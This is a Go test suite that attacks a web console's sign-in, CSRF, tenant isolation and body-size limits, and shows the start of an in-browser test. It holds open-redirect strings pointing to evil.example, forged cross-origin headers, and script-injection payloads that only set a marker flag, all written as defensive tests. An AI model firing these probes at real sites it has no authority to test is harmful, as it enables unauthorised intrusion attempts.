package api

// Attacks on the web console (core/console), each a test that passes when
// the console holds and fails when it does not:
//
//   - sign-in: open redirects through /login?next=, cookie flags, session
//     fixation, a token in the URL, a revoked token, sign-out by a GET or
//     from another site, framing and the content security policy;
//   - CSRF on every POST, PUT and DELETE (no Origin, a null Origin, another
//     origin, another port of the same site, Sec-Fetch-Site, text/plain
//     bodies to the JSON endpoints), and one tenant's ids used by another;
//   - oversized bodies, before and after sign-in;
//   - in a real Chromium: markup from every string a tenant's definition or
//     tool output controls, on every page and in every visual block; tool
//     output that plants forms, signs out, phishes or opens an HTML file in
//     the console's origin; pages of other origins that post to the console,
//     sign the user in as someone else, sign the user out, frame it, or
//     receive the user after sign-in.

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"toolhost/core/console"
	"toolhost/core/internal/browser"
	"toolhost/storage"
)

// ---- helpers ------------------------------------------------------------

// atkJSON is JSON text without HTML escapes (YAML's double-quoted scalars
// and Python's string literals read it as it is).
func atkJSON(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	enc.Encode(v)
	return strings.TrimSpace(b.String())
}

// atkP is markup that runs a script if it ever becomes markup; f names
// the field it was put in.
func atkP(f string) string {
	return `<img src=x onerror="window.__pwned='` + f + `'">`
}

// atkS is a script element with the same effect.
func atkS(f string) string { return `<script>window.__pwned='` + f + `'</script>` }

// atkTool is one tool of a generated group: its Python function returns
// result (JSON), or raises when raise is set; it prints printed.
type atkTool struct {
	name, description string
	params            string // the YAML list
	pyParams          string // the Python parameters
	result            any
	printed, raise    string
}

// atkGroup writes a group definition and its module (evil.py) for the
// tools. Scalars are written as JSON, which YAML reads as they are.
func atkGroup(name, description, module string, tools []atkTool, skills string) (yaml, py string) {
	var y, p strings.Builder
	fmt.Fprintf(&y, "kind: Plugin\nname: %s\ndescription: %s\ndependencies: [%s.py]\ntools:\n", atkJSON(name), atkJSON(description), module)
	p.WriteString("import json\n\n")
	for _, t := range tools {
		params := t.params
		if params == "" {
			params = "[]"
		}
		fmt.Fprintf(&y, "  - {kind: Tool, object_name: %s, name: %s, description: %s, implementation: %s.%s, parameters: %s}\n",
			t.name, strings.ToLower(t.name), atkJSON(t.description), module, t.name, params)
		fmt.Fprintf(&p, "def %s(%s):\n", t.name, t.pyParams)
		if t.printed != "" {
			fmt.Fprintf(&p, "    print(%s)\n", strconv.Quote(t.printed))
		}
		if t.raise != "" {
			fmt.Fprintf(&p, "    raise ValueError(%s)\n\n", strconv.Quote(t.raise))
			continue
		}
		fmt.Fprintf(&p, "    return json.loads(%s)\n\n", strconv.Quote(atkJSON(t.result)))
	}
	y.WriteString(skills)
	return y.String(), p.String()
}

// atkVisual is a tool result that sets its visual blocks.
func atkVisual(blocks ...any) any {
	return map[string]any{"__toolhost_result__": map[string]any{"content": map[string]any{"ok": true}, "visual": blocks}}
}

func atkText(md string) any { return map[string]any{"type": "text", "markdown": md} }

// atkPut stores a group with its module through the API and waits until it
// is Ready.
func atkPut(t *testing.T, srv *httptest.Server, token, module, yaml, py string) string {
	t.Helper()
	apiJSON(t, srv, token, "PUT", "/v1/files/"+module+".py", py)
	var g struct{ Name string }
	json.Unmarshal(apiJSON(t, srv, token, "POST", "/v1/groups", yaml), &g)
	waitReady(t, srv, token, url.PathEscape(g.Name))
	return g.Name
}

// atkClient is a cookie jar client that does not follow redirects.
func atkClient() *http.Client {
	jar, _ := cookiejar.New(nil)
	return &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

// atkSend sends a request with the given headers (nothing else is added:
// no Origin unless given).
func atkSend(t *testing.T, c *http.Client, method, u, contentType, body string, hdr map[string]string) pageResp {
	t.Helper()
	req, _ := http.NewRequest(method, u, strings.NewReader(body))
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, u, err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return pageResp{resp.StatusCode, string(b), resp.Request.URL.Path, resp.Header}
}

// atkSignedIn reports whether a client's sign-in still works.
func atkSignedIn(t *testing.T, c *http.Client, srv *httptest.Server) bool {
	t.Helper()
	r := atkSend(t, c, "GET", srv.URL+"/tools", "", "", nil)
	return r.code == 200 && strings.Contains(r.body, "<h1>Tools</h1>")
}

// atkSignInClient signs a non-redirecting client in.
func atkSignInClient(t *testing.T, srv *httptest.Server, token string) *http.Client {
	t.Helper()
	c := atkClient()
	r := atkSend(t, c, "POST", srv.URL+"/login", "application/x-www-form-urlencoded", url.Values{"token": {token}}.Encode(), map[string]string{"Origin": srv.URL})
	if r.code != 303 || !atkSignedIn(t, c, srv) {
		t.Fatalf("sign-in: %d %.200s", r.code, r.body)
	}
	return c
}

// atkCookie is the console's cookie in a Set-Cookie header.
func atkCookie(h http.Header) *http.Cookie {
	for _, ck := range (&http.Response{Header: h}).Cookies() {
		if ck.Name == console.CookieName {
			return ck
		}
	}
	return nil
}

// atkBrowserURL resolves a Location header as a browser does for an http
// URL (the URL standard): tabs and newlines are dropped, a backslash is a
// slash.
func atkBrowserURL(base, location string) (*url.URL, error) {
	loc := strings.NewReplacer("\t", "", "\n", "", "\r", "", `\`, "/").Replace(strings.TrimLeft(location, " \x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f"))
	b, _ := url.Parse(base)
	u, err := url.Parse(loc)
	if err != nil {
		return nil, err
	}
	return b.ResolveReference(u), nil
}

// atkSession starts a session of an agent through the API.
func atkSession(t *testing.T, srv *httptest.Server, token, agent string, vars map[string]any) string {
	t.Helper()
	var s struct{ ID string }
	json.Unmarshal(apiJSON(t, srv, token, "POST", "/v1/sessions", atkJSON(map[string]any{"agent": agent, "variables": vars})), &s)
	if s.ID == "" {
		t.Fatal("no session id")
	}
	return s.ID
}

// atkUnanswered is the id of a tenant's newest unanswered question.
func atkUnanswered(t *testing.T, srv *httptest.Server, token string) int64 {
	t.Helper()
	var out any
	json.Unmarshal(apiJSON(t, srv, token, "GET", "/v1/unanswered", ""), &out)
	var list []any
	switch v := out.(type) {
	case []any:
		list = v
	case map[string]any:
		for _, x := range v {
			if l, ok := x.([]any); ok {
				list = l
			}
		}
	}
	for i := len(list) - 1; i >= 0; i-- {
		if m, ok := list[i].(map[string]any); ok {
			if id, ok := m["id"].(float64); ok {
				return int64(id)
			}
		}
	}
	t.Fatalf("no unanswered question: %v", out)
	return 0
}

// atkAsker is an agent of the MCP group whose first state may send
// messages and report unanswered questions.
const atkAsker = `kind: Agent
name: Asker
instructions: Help __Name__.
tool_groups: [MCP Tools]
states:
  - {kind: StateConfig, name: Greeting, init_state: true, available_tools: [Echo, SendChatMessage, ReportUnansweredQuestion]}
  - {kind: StateConfig, name: Reporting, final_state: true, available_tools: [Report, FinishSession]}
`

// atkTenant is the id of a token's tenant.
func atkTenant(t *testing.T, db storage.Store, token string) int64 {
	t.Helper()
	tn, err := db.TenantByToken(context.Background(), token)
	if err != nil {
		t.Fatal(err)
	}
	return tn.ID
}

// ---- sign-in ------------------------------------------------------------

// Sign-in cannot be fixed, stolen, forged from another site, kept after
// its token is revoked, or used to send the user elsewhere.
func TestConsoleAttackSignIn(t *testing.T) {
	srv, token, _, db := consoleServer(t)
	host := strings.TrimPrefix(srv.URL, "http://")

	t.Run("next= sends the user only to the console's own pages", func(t *testing.T) {
		for _, next := range []string{
			"//evil.example/x", `/\evil.example/x`, "/\t/evil.example/x", "/\n/evil.example/x", `/\/evil.example/x`,
			`\\evil.example/x`, "https://evil.example/x", "javascript:alert(1)", "/%2F/evil.example/x", "/\\\tevil.example",
		} {
			req, _ := http.NewRequest("POST", srv.URL+"/login?next="+url.QueryEscape(next), strings.NewReader(url.Values{"token": {token}}.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			req.Header.Set("Origin", srv.URL)
			resp, err := http.DefaultTransport.RoundTrip(req) // no redirect followed, no Location parsed
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			loc := resp.Header.Get("Location")
			u, err := atkBrowserURL(srv.URL, loc)
			if resp.StatusCode != 303 || err != nil || u.Host != host {
				t.Errorf("next=%q: %d, Location %q: a browser goes to %v (%v), not the console", next, resp.StatusCode, loc, u, err)
			}
		}
		// The sign-in page reflects next= only inside its form's action, escaped.
		r := atkSend(t, atkClient(), "GET", srv.URL+"/login?next="+url.QueryEscape(`/"><script>alert(1)</script>`), "", "", nil)
		if strings.Contains(r.body, "<script>alert(1)") {
			t.Errorf("next= is reflected as markup: %.600s", r.body)
		}
	})

	t.Run("cookie flags", func(t *testing.T) {
		r := atkSend(t, atkClient(), "POST", srv.URL+"/login", "application/x-www-form-urlencoded", url.Values{"token": {token}}.Encode(), map[string]string{"Origin": srv.URL})
		ck := atkCookie(r.hdr)
		switch {
		case ck == nil:
			t.Fatalf("no cookie: %v", r.hdr)
		case !ck.HttpOnly, ck.SameSite != http.SameSiteStrictMode, ck.Path != "/":
			t.Errorf("cookie %s: HttpOnly %v, SameSite %v, Path %q", ck.Raw, ck.HttpOnly, ck.SameSite, ck.Path)
		case ck.MaxAge != 0 || !ck.Expires.IsZero():
			t.Errorf("the cookie outlives the browser session: %s", ck.Raw)
		case strings.Contains(ck.Value, token), len(ck.Value) < 32:
			t.Errorf("the cookie is the token, or guessable: %q", ck.Value)
		}
	})

	t.Run("a cookie set before sign-in is never the sign-in's", func(t *testing.T) {
		c := atkClient()
		u, _ := url.Parse(srv.URL)
		fixed := strings.Repeat("ab", 24)
		c.Jar.SetCookies(u, []*http.Cookie{{Name: console.CookieName, Value: fixed, Path: "/"}})
		if atkSignedIn(t, c, srv) {
			t.Fatal("an invented cookie is signed in")
		}
		r := atkSend(t, c, "POST", srv.URL+"/login", "application/x-www-form-urlencoded", url.Values{"token": {token}}.Encode(), map[string]string{"Origin": srv.URL})
		ck := atkCookie(r.hdr)
		if ck == nil || ck.Value == fixed {
			t.Fatalf("sign-in kept the cookie the attacker chose: %v", r.hdr)
		}
		other := atkClient()
		other.Jar.SetCookies(u, []*http.Cookie{{Name: console.CookieName, Value: fixed, Path: "/"}})
		if atkSignedIn(t, other, srv) {
			t.Error("the fixed cookie became a sign-in")
		}
		// Each sign-in has its own id; a signed-out id is dead.
		c2 := atkSignInClient(t, srv, token)
		old := c2.Jar.Cookies(u)
		atkSend(t, c2, "POST", srv.URL+"/logout", "application/x-www-form-urlencoded", "", map[string]string{"Origin": srv.URL})
		replay := atkClient()
		replay.Jar.SetCookies(u, old)
		if atkSignedIn(t, replay, srv) {
			t.Error("a signed-out cookie still works")
		}
	})

	t.Run("a token in the URL does not sign in", func(t *testing.T) {
		c := atkClient()
		r := atkSend(t, c, "GET", srv.URL+"/login?token="+url.QueryEscape(token), "", "", nil)
		if atkCookie(r.hdr) != nil || atkSignedIn(t, c, srv) {
			t.Error("GET /login?token= signs in")
		}
	})

	t.Run("sign-in from another site is refused", func(t *testing.T) {
		_, mallory, _ := db.CreateTenant(context.Background(), "mallory")
		for _, hdr := range []map[string]string{
			{}, {"Origin": "null"}, {"Origin": "http://evil.example"}, {"Origin": "http://127.0.0.1:1"},
			{"Sec-Fetch-Site": "cross-site", "Origin": "http://evil.example"}, {"Sec-Fetch-Site": "same-site", "Origin": "http://127.0.0.1:1"},
			{"Sec-Fetch-Site": "cross-site", "Origin": srv.URL}, {"Referer": srv.URL + "/login"},
		} {
			r := atkSend(t, atkClient(), "POST", srv.URL+"/login", "application/x-www-form-urlencoded", url.Values{"token": {mallory}}.Encode(), hdr)
			if r.code != 403 || atkCookie(r.hdr) != nil {
				t.Errorf("login CSRF with %v: %d, cookie %v", hdr, r.code, atkCookie(r.hdr))
			}
		}
	})

	t.Run("a revoked token's sign-in ends", func(t *testing.T) {
		// A server that trusts no token without asking (TokenCache < 0): the
		// API refuses a revoked token at once; so should the console.
		srv, tok, _, db := newServerWith(t, func(s *Server) {
			s.TokenCache = -1
			s.Console = &console.Console{DB: s.DB, Registry: s.Registry, Calls: s.Calls}
		})
		c := atkSignInClient(t, srv, tok)
		if _, err := db.RevokeToken(context.Background(), tok); err != nil {
			t.Fatal(err)
		}
		if resp, _ := request(t, srv, tok, "GET", "/v1/files", ""); resp.StatusCode != 401 {
			t.Fatalf("the API still takes the revoked token: %d", resp.StatusCode)
		}
		deadline := time.Now().Add(3 * time.Second)
		for atkSignedIn(t, c, srv) {
			if time.Now().After(deadline) {
				t.Error("after its token was revoked, the console sign-in made with it still works (for as long as it is used)")
				return
			}
			time.Sleep(200 * time.Millisecond)
		}
	})

	t.Run("sign-out only by a same-origin POST", func(t *testing.T) {
		// A GET of /logout is what an <img src=/logout> in a tool's markdown
		// or a link from anywhere sends.
		c := atkSignInClient(t, srv, token)
		atkSend(t, c, "GET", srv.URL+"/logout", "", "", nil)
		if !atkSignedIn(t, c, srv) {
			t.Error("GET /logout (an image or a link) signed the user out")
		}
		c = atkSignInClient(t, srv, token)
		atkSend(t, c, "POST", srv.URL+"/logout", "application/x-www-form-urlencoded", "", map[string]string{"Origin": "http://127.0.0.1:1", "Sec-Fetch-Site": "same-site"})
		if !atkSignedIn(t, c, srv) {
			t.Error("a POST /logout from another origin signed the user out")
		}
	})

	t.Run("every page refuses framing and inline scripts", func(t *testing.T) {
		c := atkSignInClient(t, srv, token)
		anon := atkClient()
		for _, p := range []struct {
			c            *http.Client
			method, path string
			body         string
		}{
			{anon, "GET", "/login", ""},
			{anon, "POST", "/login", "token=wrong"},
			{c, "GET", "/tools", ""},
			{c, "GET", "/tools/nope", ""},
			{c, "GET", "/resources", ""},
			{c, "GET", "/playground", ""},
			{c, "GET", "/sessions", ""},
			{c, "GET", "/knowledge", ""},
		} {
			r := atkSend(t, p.c, p.method, srv.URL+p.path, "application/x-www-form-urlencoded", p.body, map[string]string{"Origin": srv.URL})
			csp := r.hdr.Get("Content-Security-Policy")
			framing := strings.EqualFold(r.hdr.Get("X-Frame-Options"), "DENY") || strings.Contains(csp, "frame-ancestors 'none'")
			if !framing {
				t.Errorf("%s %s (%d) may be framed (clickjacking): X-Frame-Options %q, CSP %q", p.method, p.path, r.code, r.hdr.Get("X-Frame-Options"), csp)
			}
			if sp := atkScriptPolicy(csp); sp == "" || strings.Contains(sp, "'unsafe-inline'") || strings.Contains(sp, "'unsafe-eval'") || strings.Contains(sp, "*") {
				t.Errorf("%s %s (%d): no script policy, or one that allows inline scripts: CSP %q", p.method, p.path, r.code, csp)
			}
			// Nor inline styles (issue 25): a style a tool's output slipped
			// in could lay a page over the console. The console's own pages
			// use none.
			if strings.Contains(csp, "'unsafe-inline'") {
				t.Errorf("%s %s: the CSP allows something inline: %q", p.method, p.path, csp)
			}
			if strings.Contains(r.body, " style=") {
				t.Errorf("%s %s: the page has an inline style, which the CSP refuses", p.method, p.path)
			}
			if r.hdr.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s %s: no nosniff", p.method, p.path)
			}
		}
	})
}

// atkScriptPolicy is the directive that governs scripts in a policy:
// script-src, else default-src.
func atkScriptPolicy(csp string) string {
	var def string
	for _, d := range strings.Split(csp, ";") {
		d = strings.TrimSpace(d)
		switch {
		case strings.HasPrefix(d, "script-src "):
			return d
		case strings.HasPrefix(d, "default-src "):
			def = d
		}
	}
	return def
}

// ---- CSRF and tenants over HTTP -----------------------------------------

// Every change refuses requests that are not from the console's own pages,
// and one tenant's ids reach nothing of another's.
func TestConsoleAttackCSRFAndTenants(t *testing.T) {
	srv, token, a, db := consoleServer(t)
	ctx := context.Background()
	putMCPGroup(t, srv, token)
	pager, pagerPy := atkGroup("Pager", "pages", "pager", []atkTool{{name: "Pages", description: "a table with more", pyParams: "cursor=0",
		params: `[{name: cursor, type: int, description: c, optional: true}]`,
		result: atkVisual(map[string]any{"type": "table", "columns": []any{map[string]any{"key": "k", "title": "K"}}, "rows": []any{map[string]any{"k": "secret row A"}},
			"page_info": map[string]any{"returned": 1, "total": 2, "has_more": true}, "continuation": map[string]any{"cursor": 1}})}}, "")
	atkPut(t, srv, token, "pager", pager, pagerPy)
	var call struct {
		Blocks []struct {
			Continuation struct{ ID string }
		}
	}
	json.Unmarshal(apiJSON(t, srv, token, "POST", "/v1/calls", `{"tool":"Pages","arguments":{}}`), &call)
	if len(call.Blocks) == 0 || call.Blocks[0].Continuation.ID == "" {
		t.Fatal("no continuation")
	}
	cont := call.Blocks[0].Continuation.ID
	apiJSON(t, srv, token, "POST", "/v1/agents", atkAsker)
	tid := atkTenant(t, db, token)
	sess := atkSession(t, srv, token, "Asker", map[string]any{"Name": "Ann secret"})
	apiJSON(t, srv, token, "POST", "/v1/sessions/"+sess+"/calls", `{"tool":"SendChatMessage","arguments":{"message":"secret message of A"}}`)
	apiJSON(t, srv, token, "POST", "/v1/sessions/"+sess+"/calls", `{"tool":"ReportUnansweredQuestion","arguments":{"question":"secret question of A"}}`)
	question := atkUnanswered(t, srv, token)
	if r := page(t, a, srv, "POST", "/knowledge", url.Values{"name": {"faq"}, "text": {"secret knowledge of A"}}); r.code != 200 {
		t.Fatalf("knowledge: %d", r.code)
	}
	fileBefore, _ := request(t, srv, token, "GET", "/v1/files/mcptools.py", "")
	fileBefore.Body.Close()

	// state is what the changes below must leave alone.
	state := func() string {
		var b strings.Builder
		for _, p := range []string{"/v1/groups/MCP%20Tools", "/v1/groups/Planted", "/v1/files/mcptools.py", "/v1/files/planted.py", "/v1/knowledge/faq", "/v1/knowledge/planted"} {
			resp, _ := request(t, srv, token, "GET", p, "")
			fmt.Fprintf(&b, "%s %d\n", p, resp.StatusCode)
		}
		s, err := db.Session(ctx, tid, sess)
		if err == nil {
			fmt.Fprintf(&b, "session %s %v\n", s.State, s.Closed)
		}
		ss, _ := db.Sessions(ctx, tid, "", 0)
		ms, _ := db.Messages(ctx, sess)
		us, _ := db.UnansweredQuestions(ctx, tid, 0)
		fmt.Fprintf(&b, "sessions %d messages %d unanswered %d\n", len(ss), len(ms), len(us))
		return b.String()
	}
	before := state()

	planted := "kind: Plugin\nname: Planted\ndescription: p\ndependencies: [mcptools.py]\ntools:\n  - {kind: Tool, object_name: P, name: p, description: p, implementation: mcptools.echo, parameters: [{name: text, type: str, description: t}]}\n"
	type change struct{ method, path, ctype, body string }
	form := func(v url.Values) string { return v.Encode() }
	changes := []change{
		{"POST", "/tools", "application/x-www-form-urlencoded", form(url.Values{"action": {"store"}, "yaml": {planted}})},
		{"POST", "/tools/MCP%20Tools", "application/x-www-form-urlencoded", form(url.Values{"action": {"delete"}})},
		{"PUT", "/resources/planted.py", "", "x = 1"},
		{"DELETE", "/resources/mcptools.py", "", ""},
		{"POST", "/resources/mcptools.py", "application/x-www-form-urlencoded", form(url.Values{"action": {"delete"}})},
		{"POST", "/knowledge", "application/x-www-form-urlencoded", form(url.Values{"name": {"planted"}, "text": {"x"}})},
		{"POST", "/knowledge/faq", "application/x-www-form-urlencoded", form(url.Values{"action": {"delete"}})},
		{"POST", "/unanswered/" + strconv.FormatInt(question, 10), "application/x-www-form-urlencoded", form(url.Values{"action": {"delete"}})},
		// A form can send JSON as text/plain: name={"a":"  value="}.
		{"POST", "/playground/start", "text/plain", `{"agent":"Helper","variables":{"Name":"csrf"},"x":"="}`},
		{"POST", "/playground/finish", "text/plain", atkJSON(map[string]any{"session": sess})},
		{"POST", "/playground/state", "text/plain", atkJSON(map[string]any{"session": sess, "state": "Reporting"})},
		{"POST", "/playground/session-call", "text/plain", atkJSON(map[string]any{"session": sess, "tool": "SendChatMessage", "arguments": map[string]any{"message": "csrf"}})},
		{"POST", "/playground/call", "text/plain", `{"group":"MCP Tools","tool":"Echo","arguments":{"text":"csrf"}}`},
		{"POST", "/playground/continue", "text/plain", atkJSON(map[string]any{"id": cont})},
		{"POST", "/playground/session", "application/json", atkJSON(map[string]any{"session": sess})},
	}
	t.Run("CSRF", func(t *testing.T) {
		for _, hdr := range []map[string]string{
			{},
			{"Origin": "null"},
			{"Origin": "http://evil.example"},
			{"Origin": "http://127.0.0.1:1"}, // same site, another origin: SameSite=Strict does not help
			{"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"},
			{"Origin": "http://127.0.0.1:1", "Sec-Fetch-Site": "same-site"},
			{"Origin": srv.URL, "Sec-Fetch-Site": "cross-site"},
			{"Sec-Fetch-Site": "none"},
			{"Referer": srv.URL + "/tools"},
			{"Origin": srv.URL + ".evil.example"},
		} {
			for _, ch := range changes {
				r := atkSend(t, a, ch.method, srv.URL+ch.path, ch.ctype, ch.body, hdr)
				if r.code != 403 {
					t.Errorf("%s %s with %v: %d, want 403: %.200s", ch.method, ch.path, hdr, r.code, r.body)
				}
			}
		}
		if after := state(); after != before {
			t.Errorf("cross-origin requests changed the tenant's data:\nbefore:\n%s\nafter:\n%s", before, after)
		}
		// The same requests from the console's own pages do work: the refusals
		// above are not a broken endpoint.
		if r := atkSend(t, a, "POST", srv.URL+"/playground/session", "application/json", atkJSON(map[string]any{"session": sess}), map[string]string{"Sec-Fetch-Site": "same-origin", "Origin": srv.URL}); r.code != 200 {
			t.Errorf("a same-origin request fails: %d %s", r.code, r.body)
		}
	})

	t.Run("another tenant's ids", func(t *testing.T) {
		_, otherToken, _ := db.CreateTenant(ctx, "other")
		b := signIn(t, srv, otherToken)
		same := map[string]string{"Origin": srv.URL, "Sec-Fetch-Site": "same-origin"}
		secrets := []string{"Ann secret", "secret message of A", "secret question of A", "secret knowledge of A", "secret row A", "Hello Ann", "def echo"}
		look := func(what string, r pageResp, codes ...int) {
			t.Helper()
			if !slices.Contains(codes, r.code) {
				t.Errorf("%s: %d, want one of %v: %.300s", what, r.code, codes, r.body)
			}
			for _, s := range secrets {
				if strings.Contains(r.body, s) {
					t.Errorf("%s shows tenant A's %q: %.300s", what, s, r.body)
				}
			}
		}
		for _, p := range []string{"/tools/MCP%20Tools", "/resources/mcptools.py", "/knowledge/faq", "/knowledge/faq?format=text", "/sessions/" + sess, "/sessions/" + sess + "?log=trace",
			"/playground?group=MCP%20Tools&tool=Echo", "/playground?agent=Helper", "/playground?session=" + sess} {
			look("GET "+p, atkSend(t, b, "GET", srv.URL+p, "", "", same), 404)
		}
		for _, p := range []string{"/tools", "/tools?format=json", "/resources", "/sessions", "/sessions?agent=Helper", "/knowledge", "/playground"} {
			look("GET "+p, atkSend(t, b, "GET", srv.URL+p, "", "", same), 200)
		}
		look("delete A's group", atkSend(t, b, "POST", srv.URL+"/tools/MCP%20Tools", "application/x-www-form-urlencoded", "action=delete", same), 404)
		look("delete A's file", atkSend(t, b, "DELETE", srv.URL+"/resources/mcptools.py", "", "", same), 404)
		look("delete A's file by form", atkSend(t, b, "POST", srv.URL+"/resources/mcptools.py", "application/x-www-form-urlencoded", "action=delete", same), 404)
		look("delete A's document", atkSend(t, b, "POST", srv.URL+"/knowledge/faq", "application/x-www-form-urlencoded", "action=delete", same), 404)
		look("review A's question", atkSend(t, b, "POST", srv.URL+"/unanswered/"+strconv.FormatInt(question, 10), "application/x-www-form-urlencoded", "action=delete", same), 404)
		// The playground's actions with A's names and ids.
		for _, pg := range []struct {
			action string
			body   any
			codes  []int
		}{
			{"call", map[string]any{"group": "MCP Tools", "tool": "Echo", "arguments": map[string]any{"text": "x"}}, []int{422}},
			{"call", map[string]any{"tool": "Pages", "arguments": map[string]any{}}, []int{422}},
			{"calltext", map[string]any{"group": "MCP Tools", "tool": "Echo", "arguments": map[string]any{"text": "x"}}, []int{200}},
			{"continue", map[string]any{"id": cont}, []int{404, 409, 410, 422}},
			{"start", map[string]any{"agent": "Helper", "variables": map[string]any{"Name": "x"}}, []int{404, 409, 422}},
			{"session", map[string]any{"session": sess}, []int{404}},
			{"session-call", map[string]any{"session": sess, "tool": "SendChatMessage", "arguments": map[string]any{"message": "from B"}}, []int{404}},
			{"state", map[string]any{"session": sess, "state": "Reporting"}, []int{404}},
			{"finish", map[string]any{"session": sess}, []int{404}},
		} {
			r := atkSend(t, b, "POST", srv.URL+"/playground/"+pg.action, "application/json", atkJSON(pg.body), same)
			look("playground "+pg.action, r, pg.codes...)
			if pg.action == "calltext" && strings.Contains(r.body, "Echo") {
				t.Errorf("calltext answers for A's tool: %s", r.body)
			}
		}
		// B's upload under the same path is B's own file.
		atkSend(t, b, "PUT", srv.URL+"/resources/mcptools.py", "", "print('B')", same)
		resp, body := request(t, srv, token, "GET", "/v1/files/mcptools.py", "")
		if resp.StatusCode != 200 || strings.Contains(string(body), "print('B')") {
			t.Errorf("B's upload replaced A's file: %d %.100s", resp.StatusCode, body)
		}
		if after := state(); after != before {
			t.Errorf("another tenant changed tenant A's data:\nbefore:\n%s\nafter:\n%s", before, after)
		}
	})

	t.Run("a group's page and its Delete button are that group's", func(t *testing.T) {
		// The page's form posts to /tools/{pathEscape name}; the server
		// unescapes the path twice, so "Ops%20Tools" is read as "Ops Tools".
		for _, n := range []string{"Ops Tools", "Ops%20Tools"} {
			y := strings.Replace(planted, "name: Planted", "name: "+atkJSON(n), 1)
			apiJSON(t, srv, token, "POST", "/v1/groups", y)
		}
		r := page(t, a, srv, "GET", "/tools/"+url.PathEscape("Ops%20Tools"), nil)
		if !strings.Contains(r.body, "<h1>Ops%20Tools</h1>") {
			t.Errorf("the page of Ops%%20Tools shows another group: %.120s", r.body[max(strings.Index(r.body, "<h1>"), 0):])
		}
		page(t, a, srv, "POST", "/tools/"+url.PathEscape("Ops%20Tools"), url.Values{"action": {"delete"}})
		if resp, _ := request(t, srv, token, "GET", "/v1/groups/Ops%20Tools", ""); resp.StatusCode != 200 {
			t.Error("deleting the group Ops%20Tools from its page deleted the group Ops Tools")
		}
	})
}

// ---- oversized bodies ---------------------------------------------------

// atkZeros is a body of n bytes that counts what the server read.
type atkZeros struct {
	left int64
	read *atomic.Int64
}

func (z *atkZeros) Read(p []byte) (int, error) {
	if z.left <= 0 {
		return 0, io.EOF
	}
	n := min(int64(len(p)), z.left)
	for i := range p[:n] {
		p[i] = 'a'
	}
	z.left -= n
	z.read.Add(n)
	return int(n), nil
}

// A request's body is bounded before it is read: a form the console does
// not expect to be large is not read to its end (held in memory up to 32
// MiB, the rest written to a temporary file) — least of all before
// sign-in.
func TestConsoleAttackOversizedBodies(t *testing.T) {
	srv, token, c, _ := consoleServer(t)
	const size = 48 << 20
	const most = 16 << 20 // a bound well above what the kernel buffers
	send := func(c *http.Client, method, path string) (int, int64) {
		var read atomic.Int64
		head := "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"f\"\r\nContent-Type: application/octet-stream\r\n\r\n"
		body := io.MultiReader(strings.NewReader(head), &atkZeros{left: size, read: &read}, strings.NewReader("\r\n--B--\r\n"))
		req, _ := http.NewRequest(method, srv.URL+path, body)
		req.Header.Set("Content-Type", "multipart/form-data; boundary=B")
		req.Header.Set("Origin", srv.URL)
		resp, err := c.Do(req)
		if err != nil {
			return 0, read.Load()
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode, read.Load()
	}
	putMCPGroup(t, srv, token)
	for _, tt := range []struct {
		name   string
		client *http.Client
		method string
		path   string
	}{
		{"sign-in, before any sign-in", &http.Client{}, "POST", "/login"},
		{"a group's delete", c, "POST", "/tools/MCP%20Tools"},
		{"a file's delete", c, "POST", "/resources/mcptools.py"},
		{"a document's delete", c, "POST", "/knowledge/faq"},
		{"a question's review", c, "POST", "/unanswered/1"},
		{"a definition", c, "POST", "/tools"},
		{"a playground action", c, "POST", "/playground/call"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			code, read := send(tt.client, tt.method, tt.path)
			if read > most {
				t.Errorf("%s %s read %d MiB of a %d MiB body before answering %d", tt.method, tt.path, read>>20, size>>20, code)
			}
		})
	}
	if resp, _ := request(t, srv, token, "GET", "/v1/groups/MCP%20Tools", ""); resp.StatusCode != 200 {
		t.Error("the group is gone")
	}
}

// ---- in a real browser --------------------------------------------------

// atkDOMCheck lists what in the page could run a script or navigate to one:
// event handler attributes, scripts that are not the console's own,
// javascript: and data: URLs where they navigate, frames and plugins; and
// window.__pwned, set by every payload that ran.
const atkDOMCheck = `(() => {
	const bad = [];
	for (const el of document.querySelectorAll('body *')) {
		for (const a of el.attributes) {
			if (/^on/i.test(a.name)) bad.push(el.tagName + '[' + a.name + '=' + a.value.slice(0, 40) + ']');
			if (/^(href|xlink:href|action|formaction|data)$/i.test(a.name) && /^\s*(javascript|vbscript|data):/i.test(a.value) && el.tagName !== 'IMG')
				bad.push(el.tagName + '[' + a.name + '=' + a.value.slice(0, 40) + ']');
		}
		if (el.tagName === 'SCRIPT' && !/^\/static\//.test(el.getAttribute('src') || '')) bad.push('script: ' + el.outerHTML.slice(0, 60));
		if (/^(IFRAME|FRAME|OBJECT|EMBED|BASE|META|LINK)$/.test(el.tagName)) bad.push(el.tagName + ': ' + el.outerHTML.slice(0, 60));
	}
	if (window.__pwned) bad.push('ran: ' + window.__pwned);
	return bad;
})()`

// atkEvil is tenant A's hostile group: every string it controls is markup.
type atkEvil struct {
	group, agent, session string
}

func TestConsoleAttackInBrowser(t *testing.T) {
	srv, token, _, db := newServerWith(t, func(s *Server) {
		s.Console = &console.Console{DB: s.DB, Registry: s.Registry, Calls: s.Calls}
	})
	ctx0 := context.Background()

